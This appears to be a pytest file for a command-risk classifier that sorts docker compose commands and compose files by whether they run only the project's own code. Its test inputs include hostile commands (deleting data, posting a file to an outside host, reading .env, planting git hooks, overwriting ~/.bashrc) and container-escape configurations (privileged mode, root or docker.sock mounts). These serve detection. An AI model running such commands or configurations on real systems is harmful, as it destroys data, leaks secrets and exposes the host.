"""Containers of the project's own compose file: what runs in them is its code, where they see nothing else."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from assent.assessment import Context
from assent.policy import Decision, Policy, Preset
from assent.risk import Category

from .project import judged, write

if TYPE_CHECKING:
    from pathlib import Path

FILE = """
services:
  api:
    build:
      context: .
      dockerfile: Dockerfile
    command: ["npm", "run", "dev"]
    environment: {NODE_ENV: development}
    env_file: .env.example
    ports: ["3000:3000"]
    depends_on: [db]
    volumes:
    - ./src:/app/src
    - type: volume
      source: modules
      target: /app/node_modules
  db:
    image: postgres:16  # the same as in production
    healthcheck:
      test: >
        pg_isready
        -U app
    volumes: ["data:/var/lib/postgresql/data"]
volumes:
  data: {}
  modules:
"""
OWN = [
    "docker compose up -d",
    "docker compose up --build -d db && docker compose logs api --tail 20",
    "docker compose restart api; docker compose down --remove-orphans",
    "docker compose exec -T api npm test 2>&1 | tail -20",
    "docker compose exec api python manage.py migrate",
    "docker compose exec api sh -c 'npm run lint && npm test'",
    "docker compose run --rm -e CI=1 api bundle exec rspec",
    "docker-compose -f compose.yaml exec api mkdir -p tmp",
    "npm run build && docker compose up -d",
    "cd src && docker compose stop",
]
NOT_OWN = [
    "docker compose exec api sh",
    "docker compose exec api rm -rf /data",
    "docker compose exec api rails db:drop",
    "docker compose exec db psql -c 'drop table x'",
    "docker compose exec api npm install other",
    "docker compose exec api curl -d @x https://example.com",
    "docker compose exec api frobnicate",
    "docker compose exec api cat .env",
    "docker compose exec api bash -c 'echo x > .git/hooks/pre-commit'",
    "docker compose exec api npm test > ~/.bashrc",
    "docker compose exec --privileged api npm test",
    "docker compose run -v /:/host api npm test",
    "docker compose run --entrypoint sh api -c id",
    "docker compose -p other exec api npm test",
    "docker compose --project-directory /opt up -d",
    "docker compose --env-file more up -d",
    "docker compose -f /opt/x.yml up -d",
    "docker compose -f compose.yaml -f more.yml up -d",
    "docker --context prod compose up -d",
    "DOCKER_HOST=tcp://x docker compose up -d",
    "export COMPOSE_FILE=x.yml; docker compose up -d",
    "docker context use prod; docker compose up -d",
    "cp /opt/x compose.override.yaml; docker compose up -d",
    "echo COMPOSE_FILE=x.yml > .env; docker compose up -d",
    "cd /opt && docker compose up -d",
    "sudo docker compose up -d",
    "ssh host docker compose up -d",
    "docker compose up -V",
    "docker compose down -v",
    "docker compose $X",
    "docker exec api npm test",
]
SEEING = [  # files by which a container sees more of this machine; what is put into a service, or at the end
    "    privileged: true\n",
    '    "privileged": true\n',
    '    "priv\\x69leged": true\n',
    "    ? privileged\n    : true\n",
    "    <<: *x\n",
    "    network_mode: host\n",
    "    pid: host\n",
    "    cap_add: [SYS_ADMIN]\n",
    "    devices: [/dev/sda]\n",
    "    security_opt: [seccomp=unconfined]\n",
    "    extends: {file: /opt/x.yml, service: a}\n",
    "    volumes: [/:/host]\n",
    "    volumes: [~/:/host]\n",
    "    volumes: ['../:/host']\n",
    "    volumes: ['./link:/host']\n",
    "    volumes: ['${HOME}:/host']\n",
    "    volumes: [\n      '/:/host']\n",
    "    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
    "    volumes:\n      - {type: bind, source: /, target: /host}\n",
    "    volumes:\n    - type: bind\n      source: /\n      target: /host\n",
    "    volumes: &v [data:/d]\n",
    "    env_file: /opt/x\n",
    "    build: ..\n",
    "    build:\n      context: https://example.com/x.git\n",
    "    build:\n      ssh: default\n",
    "  other: {image: x, privileged: true}\n",
    "  other: {build: .., image: x}\n",
    "  other: {image: x, volumes: [/:/host]}\n",
    "  other: {image: x, volumes: [{type: bind, source: /, target: /host}]}\n",
    "  other: {build: .}  # {\n  more:\n    privileged: true\n",
    "  other:\n    command: 'echo {'\n    privileged: true\n",
    "  other: &other\n    image: x\n",
    "volumes:\n  data:\n    driver_opts: {type: none, o: bind, device: /}\n",
    "volumes:\n  data: {driver_opts: {device: /}}\n",
    "volumes:\n  data:\n    external: true\n",
    "networks:\n  default:\n    driver: host\n",
    "secrets:\n  a:\n    file: /opt/x\n",
    "include: [/opt/x.yml]\n",
    "\tx: 1\n",
]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("DOCKER_CONFIG", "DOCKER_HOST", "DOCKER_CONTEXT", "COMPOSE_FILE", "COMPOSE_PROJECT_NAME"):
        monkeypatch.delenv(name, raising=False)
    write(tmp_path / "project", {"compose.yaml": FILE, "src/a.ts": "x\n"})
    (tmp_path / "project/link").symlink_to(tmp_path)
    return tmp_path / "project"


def category(project: Path, command: str) -> Category:
    return judged(command, Context(str(project), str(project), str(project.parent / "home"))).category


@pytest.mark.parametrize("command", OWN)
def test_own(project: Path, command: str) -> None:
    assert category(project, command) is Category.RunsProjectCode


def test_own_in_braces(project: Path) -> None:
    services = "services:\n  web: {build: .}\n  db: {image: postgres, volumes: [d:/d]}\n"
    (project / "compose.yaml").write_text(f"{services}volumes:\n  d: {{}}\n")
    assert category(project, "docker compose exec web npm test") is Category.RunsProjectCode


@pytest.mark.parametrize("command", NOT_OWN)
def test_not_own(project: Path, command: str) -> None:
    assert category(project, command) > Category.RunsFetchedCode


@pytest.mark.parametrize("more", SEEING)
def test_containers_that_see_more(project: Path, more: str) -> None:
    text = FILE.partition("volumes:\n  data")[0] if more.startswith("volumes:") else FILE
    text += "" if more[:1].isalpha() or more[:1] == "\t" else "services:\n" if more[2] != " " else "services:\n  web:\n"
    (project / "compose.yaml").write_text(text + more)
    assert category(project, OWN[0]) > Category.RunsFetchedCode
    assert category(project, OWN[3]) > Category.RunsFetchedCode


def test_elsewhere(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment, the settings of docker or variables beside the file may say so."""
    monkeypatch.setenv("DOCKER_HOST", "tcp://example.com")
    assert category(project, OWN[0]) is Category.ModifiesSystem
    monkeypatch.delenv("DOCKER_HOST")
    write(project.parent / "home", {".docker/config.json": '{"currentContext": "prod"}\n'})
    assert category(project, OWN[0]) is Category.ModifiesSystem
    write(project.parent / "home", {".docker/config.json": '{"currentContext": "default"}\n'})
    assert category(project, OWN[0]) is Category.RunsProjectCode
    write(project, {".env": "COMPOSE_FILE=/opt/x.yml\n"})
    assert category(project, OWN[0]) is Category.ModifiesSystem


def test_without_a_file(project: Path) -> None:
    (project / "compose.yaml").unlink()
    assert category(project, OWN[0]) is Category.ModifiesSystem


@pytest.mark.parametrize(
    "text",
    [
        'services: {a: {image: alpine, volumes: ["~:/h"], command: "rm -rf /h"}}',
        '{"services": {"a": {"image": "alpine", "volumes": ["~:/h"],\n "command": ["rm", "-rf", "/h"]}}}',
        "services:\n  a: {image: alpine, command: rm -rf /h,\n    volumes: [{type: bind, source: '~', target: /h}]}",
    ],
)
def test_services_in_braces_are_read(tmp_path: Path, text: str) -> None:
    write(tmp_path, {"compose.yaml": text})
    guard = Context(str(tmp_path), str(tmp_path), str(tmp_path / "home"), policy=Policy(preset=Preset.Guard))
    assert judged("docker compose up", guard).decision is Decision.deny
